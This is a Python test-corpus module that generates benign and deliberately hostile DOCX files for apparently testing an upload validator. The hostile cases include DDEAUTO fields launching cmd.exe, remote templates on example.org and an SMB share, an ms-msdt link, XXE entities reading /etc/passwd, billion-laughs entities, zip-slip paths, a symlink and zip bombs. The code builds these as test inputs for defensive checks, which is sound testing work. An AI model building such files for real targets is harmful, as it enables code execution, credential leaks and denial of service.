"""DOCX files of the corpus."""

import io
import stat
import struct
import zipfile
import zlib

from tests.corpus import DOCX_NAME, PDF_NAME, honest, hostile
from tests.corpus_pictures import ordinary_jpeg

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
WORD_TYPES = "application/vnd.openxmlformats-officedocument.wordprocessingml"
SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
COMPOUND = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
DECLARED = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


def types(main: str = f"{WORD_TYPES}.document.main+xml", extra: str = "") -> str:
    """[Content_Types].xml."""
    return (
        f'{DECLARED}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/><Default Extension="jpeg" ContentType="image/jpeg"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/>{extra}</Types>'
    )


def relationship(kind: str, target: str, *, external: bool = False, family: str = OFFICE) -> str:
    """One arrow between parts."""
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="r{zlib.crc32(target.encode())}" Type="{family}/{kind}" Target="{target}"{mode}/>'


def relationships(*rows: str) -> str:
    """A .rels part."""
    inside = "".join(rows)
    return f'{DECLARED}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{inside}</Relationships>'


def body(inside: str = "<w:p><w:r><w:t>Не горит фонарь</w:t></w:r></w:p>") -> str:
    """word/document.xml."""
    word = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    return f'{DECLARED}<w:document xmlns:w="{word}" xmlns:r="{OFFICE}"><w:body>{inside}</w:body></w:document>'


def parts(**changed: str | bytes) -> dict[str, str | bytes]:
    """The parts of a small document in Word's order; `changed` by key, other names are added with `extra`."""
    return {
        "[Content_Types].xml": changed.get("types", types()),
        "_rels/.rels": changed.get("root", relationships(relationship("officeDocument", "word/document.xml"))),
        "word/document.xml": changed.get("document", body()),
        "word/_rels/document.xml.rels": changed.get("arrows", relationships()),
    }


def packed(files: dict[str, str | bytes], **extra: str | bytes) -> bytes:
    """The archive as zipfile writes it."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in {**files, **extra}.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def pointing(*rows: str, **extra: str | bytes) -> bytes:
    """A document whose main part has these arrows."""
    return packed(parts(arrows=relationships(*rows)), **extra)


@honest(DOCX_NAME)
def docx_in_words_order() -> bytes:
    return packed(parts())


@honest(DOCX_NAME)
def docx_in_libreoffices_order() -> bytes:
    return packed(dict(reversed(parts().items())))


class _Stream(io.BytesIO):
    """Cannot go back, as a file that is being downloaded while it is written."""

    def seekable(self) -> bool:
        return False

    def seek(self, *_: int) -> int:
        raise io.UnsupportedOperation

    def tell(self) -> int:
        raise io.UnsupportedOperation


@honest(DOCX_NAME)
def docx_streamed_like_googles() -> bytes:
    buffer = _Stream()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in reversed(parts().items()):
            archive.writestr(name, content)
    return buffer.getvalue()


@honest(DOCX_NAME)
def docx_without_compression() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in parts().items():
            archive.writestr(name, content)
    return buffer.getvalue()


@honest(DOCX_NAME)
def docx_of_the_strict_edition() -> bytes:
    root = relationships(relationship("officeDocument", "/word/document.xml", family=STRICT))
    return packed(parts(root=root, arrows=relationships(relationship("styles", "styles.xml", family=STRICT))))


@honest(DOCX_NAME)
def docx_with_a_picture_and_links() -> bytes:
    rows = (
        relationship("image", "media/image1.jpeg"),
        relationship("hyperlink", "https://example.org/?a=1&amp;b=2", external=True),
        relationship("hyperlink", "mailto:anna@example.org", external=True),
        relationship("hyperlink", "file:///C:\\Договор.docx", external=True),
    )
    return pointing(*rows, **{"word/media/image1.jpeg": ordinary_jpeg()})


@honest(DOCX_NAME)
def docx_made_from_the_authors_own_template() -> bytes:
    own = relationship("attachedTemplate", "file:///C:\\Users\\Anna\\Templates\\Письмо.dotx", external=True)
    return packed(parts(), **{"word/_rels/settings.xml.rels": relationships(own)})


@honest(DOCX_NAME)
def docx_with_ordinary_fields() -> bytes:
    return packed(
        parts(document=body(_field("PAGE ") + _field(' HYPERLINK "https://example.org/" ') + _field("DDEPTH")))
    )


@honest(DOCX_NAME)
def docx_about_dde_and_doctype() -> bytes:
    text = "<w:p><w:r><w:t>DDEAUTO cmd и &lt;!DOCTYPE x&gt; и &lt;!ENTITY&gt;</w:t></w:r></w:p>"
    return packed(parts(document=body(text)))


@honest(DOCX_NAME)
def docx_with_a_chart() -> bytes:
    arrow = relationships(relationship("package", "../embeddings/Microsoft_Excel_Sheet1.xlsx"))
    return packed(
        parts(types=types(extra=f'<Default Extension="xlsx" ContentType="{SHEET}"/>')),
        **{"word/charts/_rels/chart1.xml.rels": arrow, "word/embeddings/Microsoft_Excel_Sheet1.xlsx": workbook()},
    )


def workbook(main: str = f"{SHEET}.main+xml") -> bytes:
    """The numbers behind a chart."""
    content = types(extra=f'<Override PartName="/xl/workbook.xml" ContentType="{main}"/>')
    root = relationships(relationship("officeDocument", "xl/workbook.xml"))
    return packed({"[Content_Types].xml": content, "_rels/.rels": root, "xl/workbook.xml": f"{DECLARED}<workbook/>"})


@honest(DOCX_NAME)
def docx_of_a_hundred_thousand_paragraphs() -> bytes:
    return packed(parts(document=body("<w:p><w:r><w:t>Очень длинное обращение.</w:t></w:r></w:p>" * 100_000)))


@hostile(DOCX_NAME, "empty")
def empty_docx() -> bytes:
    return b""


@hostile(DOCX_NAME, "other_kind")
def docx_of_one_byte() -> bytes:
    return b"P"


@hostile(DOCX_NAME, "damaged")
def truncated_docx() -> bytes:
    whole = docx_in_words_order()
    return whole[: len(whole) // 2]


@hostile(DOCX_NAME, "other_kind")
def plain_zip_named_docx() -> bytes:
    return packed({"readme.txt": "hello"})


@hostile(DOCX_NAME, "other_kind")
def workbook_named_docx() -> bytes:
    return workbook()


@hostile(DOCX_NAME, "other_kind")
def old_word_document_named_docx() -> bytes:
    return COMPOUND


@hostile(DOCX_NAME, "other_kind")
def pdf_named_docx() -> bytes:
    return b"%PDF-1.7\n"


@hostile(PDF_NAME, "other_kind")
def docx_named_pdf() -> bytes:
    return docx_in_words_order()


@hostile("жалоба.docm", "type")
def document_with_macros_by_name() -> bytes:
    return docx_in_words_order()


@hostile("жалоба.doc", "type")
def old_word_document() -> bytes:
    return COMPOUND


@hostile(DOCX_NAME, "password")
def docx_with_a_password() -> bytes:
    return COMPOUND + "EncryptedPackage".encode("utf-16-le")


@hostile(DOCX_NAME, "password")
def docx_of_encrypted_members() -> bytes:
    whole = bytearray(docx_in_words_order())
    for signature, offset in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        at = whole.find(signature)
        while at >= 0:
            whole[at + offset] |= 1
            at = whole.find(signature, at + 4)
    return bytes(whole)


@hostile(DOCX_NAME, "docx_macro")
def docx_with_macros() -> bytes:
    main = "application/vnd.ms-word.document.macroEnabled.main+xml"
    row = relationship("vbaProject", "vbaProject.bin", family=MICROSOFT)
    return packed(parts(types=types(main), arrows=relationships(row)), **{"word/vbaProject.bin": COMPOUND})


@hostile(DOCX_NAME, "docx_macro")
def docx_with_macros_called_a_picture() -> bytes:
    row = relationship("vbaProject", "media/image1.jpeg", family=MICROSOFT)
    return pointing(row, **{"word/media/image1.jpeg": b"ordinary"})


@hostile(DOCX_NAME, "docx_object")
def docx_with_a_compound_file_called_a_picture() -> bytes:
    return pointing(relationship("image", "media/image1.jpeg"), **{"word/media/image1.jpeg": COMPOUND})


@hostile(DOCX_NAME, "docx_object")
def docx_with_a_program_called_a_picture() -> bytes:
    return pointing(relationship("image", "media/image1.jpeg"), **{"word/media/image1.jpeg": b"MZ\x90\0" + b"\0" * 99})


@hostile(DOCX_NAME, "docx_macro")
def docx_with_macros_in_a_charts_workbook() -> bytes:
    inside = workbook("application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    return packed(parts(), **{"word/embeddings/book.xlsx": inside})


@hostile(DOCX_NAME, "docx_remote")
def docx_with_a_template_from_elsewhere() -> bytes:
    row = relationship("attachedTemplate", "https://example.org/evil.dotm", external=True)
    return packed(parts(), **{"word/_rels/settings.xml.rels": relationships(row)})


@hostile(DOCX_NAME, "docx_remote")
def docx_with_a_template_on_a_share() -> bytes:
    row = relationship("attachedTemplate", "file:///\\\\198.51.100.7\\c$\\evil.dotm", external=True)
    return packed(parts(), **{"word/_rels/settings.xml.rels": relationships(row)})


@hostile(DOCX_NAME, "docx_remote")
def docx_with_a_picture_from_elsewhere() -> bytes:
    return pointing(relationship("image", "https://example.org/pixel.png", external=True))


@hostile(DOCX_NAME, "docx_remote")
def docx_with_an_address_that_says_internal() -> bytes:
    return pointing(relationship("attachedTemplate", "https://example.org/evil.dotm"))


@hostile(DOCX_NAME, "docx_remote")
def docx_with_a_chapter_from_elsewhere() -> bytes:
    return pointing(relationship("subDocument", "https://example.org/chapter.docx", external=True))


@hostile(DOCX_NAME, "docx_remote")
def docx_that_merges_addresses_from_elsewhere() -> bytes:
    row = relationship("mailMergeSource", "file:///C:\\Users\\Anna\\people.mdb", external=True)
    return packed(parts(), **{"word/_rels/settings.xml.rels": relationships(row)})


@hostile(DOCX_NAME, "docx_remote")
def docx_with_a_frame() -> bytes:
    return pointing(relationship("frame", "https://example.org/", external=True, family=STRICT))


@hostile(DOCX_NAME, "docx_remote")
def docx_with_a_script_link() -> bytes:
    return pointing(relationship("hyperlink", "ms-msdt:/id PCWDiagnostic", external=True))


@hostile(DOCX_NAME, "docx_object")
def docx_with_an_ole_object() -> bytes:
    return pointing(relationship("oleObject", "embeddings/oleObject1.bin"), **{"word/embeddings/oleObject1.bin": b"x"})


@hostile(DOCX_NAME, "docx_object")
def docx_with_a_linked_ole_object() -> bytes:
    return pointing(relationship("oleObject", "mhtml:https://example.org/x!", external=True))


@hostile(DOCX_NAME, "docx_object")
def docx_with_activex() -> bytes:
    return pointing(relationship("control", "activeX/activeX1.xml"), **{"word/activeX/activeX1.xml": "<ax/>"})


@hostile(DOCX_NAME, "docx_object")
def docx_with_an_alternative_chunk() -> bytes:
    return pointing(relationship("aFChunk", "afchunk.htm"), **{"word/afchunk.htm": "text"})


@hostile(DOCX_NAME, "docx_object")
def docx_with_dde() -> bytes:
    return packed(parts(document=body(_field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" '))))


@hostile(DOCX_NAME, "docx_object")
def docx_with_dde_in_pieces() -> bytes:
    return packed(parts(document=body(_field(" DD", "E", "AUTO cmd"))))


@hostile(DOCX_NAME, "docx_object")
def docx_with_dde_in_an_attribute() -> bytes:
    return packed(
        parts(document=body('<w:p><w:fldSimple w:instr="DDE cmd"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'))
    )


@hostile(DOCX_NAME, "docx_object")
def docx_with_a_computed_field_name() -> bytes:
    return packed(
        parts(document=body(_char("begin") + _field("QUOTE 68 68 69 65 85 84 79") + _said(" cmd") + _char("end")))
    )


@hostile(DOCX_NAME, "docx_object")
def docx_with_dde_in_utf16() -> bytes:
    text = body(_field("DDEAUTO cmd")).replace("UTF-8", "UTF-16")
    return packed(parts(document=text.encode("utf-16")))


@hostile(DOCX_NAME, "docx_markup")
def docx_with_a_dtd() -> bytes:
    return packed(parts(document=_with_dtd(body())))


@hostile(DOCX_NAME, "docx_macro")
def docx_with_a_document_with_macros_inside() -> bytes:
    inside = packed(parts(types=types("application/vnd.ms-word.document.macroEnabled.main+xml")))
    return packed(parts(), **{"word/embeddings/letter.docx": inside})


@hostile(DOCX_NAME, "docx_markup")
def docx_with_a_dtd_in_utf16() -> bytes:
    return packed(parts(document=_with_dtd(body()).replace("UTF-8", "UTF-16").encode("utf-16")))


@hostile(DOCX_NAME, "docx_markup")
def docx_with_a_dtd_in_its_relationships() -> bytes:
    return packed(parts(arrows=_with_dtd(relationships())))


@hostile(DOCX_NAME, "docx_markup")
def docx_with_laughing_entities() -> bytes:
    entities = '<!ENTITY a "' + "a" * 1000 + '"><!ENTITY b "' + "&a;" * 1000 + '">'
    return packed(parts(document=_with_dtd(body("&b;" * 1000), entities)))


@hostile(DOCX_NAME, "docx_markup")
def docx_with_a_dtd_in_a_part_of_another_name() -> bytes:
    extra = '<Default Extension="dat" ContentType="application/xml"/>'
    return packed(parts(types=types(extra=extra)), **{"word/strange.dat": _with_dtd("<a/>")})


@hostile(DOCX_NAME, "damaged")
def docx_with_a_dtd_in_utf7() -> bytes:
    text = '<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE a+AD4-<a/>'
    return packed(parts(document=text))


@hostile(DOCX_NAME, "docx_markup")
def docx_that_climbs_out() -> bytes:
    return packed(parts(), **{"../../evil.sh": "id"})


@hostile(DOCX_NAME, "docx_markup")
def docx_with_a_backslash() -> bytes:
    return packed(parts(), **{"..\\evil.bat": "id"})


@hostile(DOCX_NAME, "docx_markup")
def docx_with_an_absolute_path() -> bytes:
    return packed(parts(), **{"/etc/cron.d/evil": "id"})


@hostile(DOCX_NAME, "docx_markup")
def docx_with_a_symlink() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in parts().items():
            archive.writestr(name, content)
        link = zipfile.ZipInfo("word/link")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/passwd")
    return buffer.getvalue()


@hostile(DOCX_NAME, "damaged")
def docx_with_one_name_twice() -> bytes:
    whole = packed(parts(), **{"word/document.xm_": body(_field("DDE cmd"))})
    return whole.replace(b"word/document.xm_", b"word/document.xml")


@hostile(DOCX_NAME, "damaged")
def docx_with_one_name_in_two_cases() -> bytes:
    return packed(parts(), **{"WORD/document.xml": body(_field("DDE cmd"))})


@hostile(DOCX_NAME, "damaged")
def docx_whose_headers_disagree() -> bytes:
    whole = packed(parts(), **{"word/first.xml": "<a/>"})
    return whole.replace(b"word/first.xml", b"word/other.xml", 1)


@hostile(DOCX_NAME, "other_kind")
def docx_behind_a_program() -> bytes:
    return b"MZ\x90\0" + docx_in_words_order()


@hostile(DOCX_NAME, "damaged")
def docx_with_a_tail() -> bytes:
    return docx_in_words_order() + b"x" * 5000


@hostile(DOCX_NAME, "damaged")
def docx_with_a_long_comment() -> bytes:
    buffer = io.BytesIO(docx_in_words_order())
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.comment = b"x" * 5000
    return buffer.getvalue()


@hostile(DOCX_NAME, "damaged")
def docx_with_something_between_its_parts() -> bytes:
    """A gap no directory tells of."""
    whole = docx_in_words_order()
    with zipfile.ZipFile(io.BytesIO(whole)) as archive:
        directory = archive.start_dir
    grown = whole[:directory] + b"MZ" * 5000 + whole[directory:]
    return grown[:-6] + struct.pack("<I", directory + 10_000) + grown[-2:]


@hostile(DOCX_NAME, "damaged")
def docx_with_members_that_overlap() -> bytes:
    """A stored member holds another member, and the directory lists both."""
    inner_name, inner = b"word/inner.xml", b"<a/>"
    local = struct.pack("<4s5H3I2H", b"PK\3\4", 20, 0, 0, 0, 33, zlib.crc32(inner), 4, 4, len(inner_name), 0)
    outer = local + inner_name + inner
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in parts().items():
            archive.writestr(name, content)
        archive.writestr("word/outer.bin", outer)
        hidden = zipfile.ZipInfo(inner_name.decode(), (1980, 1, 1, 0, 0, 0))
        hidden.header_offset = archive.infolist()[-1].header_offset + 30 + len("word/outer.bin")
        hidden.CRC, hidden.file_size, hidden.compress_size = zlib.crc32(inner), 4, 4
        archive.filelist.append(hidden)
        archive.NameToInfo[hidden.filename] = hidden
    return buffer.getvalue()


@hostile(DOCX_NAME, "damaged")
def docx_that_lies_about_sizes() -> bytes:
    whole = bytearray(packed(parts(document=body("<w:p/>" * 100_000))))
    at = whole.index(b"PK\x01\x02", whole.index(b"PK\x01\x02") + 1)
    at = whole.index(b"PK\x01\x02", at + 1)  # the main part
    whole[at + 24 : at + 28] = struct.pack("<I", 100)
    return bytes(whole)


@hostile(DOCX_NAME, "too_complex")
def docx_bomb() -> bytes:
    return _bomb({"word/media/image1.jpeg": 120 * 2**20})


@hostile(DOCX_NAME, "too_complex")
def docx_bomb_in_many_parts() -> bytes:
    return _bomb({f"word/media/image{number}.jpeg": 2**20 for number in range(110)})


@hostile(DOCX_NAME, "too_complex")
def docx_of_five_thousand_parts() -> bytes:
    return packed(parts(), **{f"word/media/{number}.jpeg": b"x" for number in range(5000)})


@hostile(DOCX_NAME, "too_complex")
def docx_of_three_million_elements() -> bytes:
    return packed(parts(document=body("<w:p/>" * 3_000_000)))


@hostile(DOCX_NAME, "damaged")
def docx_of_markup_that_does_not_end() -> bytes:
    return packed(parts(document=body("<w:p>")))


def _bomb(sizes: dict[str, int]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, content in parts().items():
            archive.writestr(name, content)
        for name, size in sizes.items():
            archive.writestr(name, b"\0" * size)
    return buffer.getvalue()


def _with_dtd(text: str, inside: str = '<!ENTITY x SYSTEM "file:///etc/passwd">') -> str:
    declaration, _, rest = text.partition("?>") if text.startswith("<?xml") else ("", "", text)
    doctype = f"<!DOCTYPE a [{inside}]>"
    return f"{declaration}?>{doctype}{rest}" if declaration else doctype + rest


def _char(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def _said(text: str) -> str:
    escaped = text.replace("&", "&amp;").replace('"', "&quot;")
    return f"<w:r><w:instrText>{escaped}</w:instrText></w:r>"


def _field(*pieces: str) -> str:
    inside = "".join(_said(piece) for piece in pieces)
    return _char("begin") + inside + _char("separate") + "<w:r><w:t>1</w:t></w:r>" + _char("end")
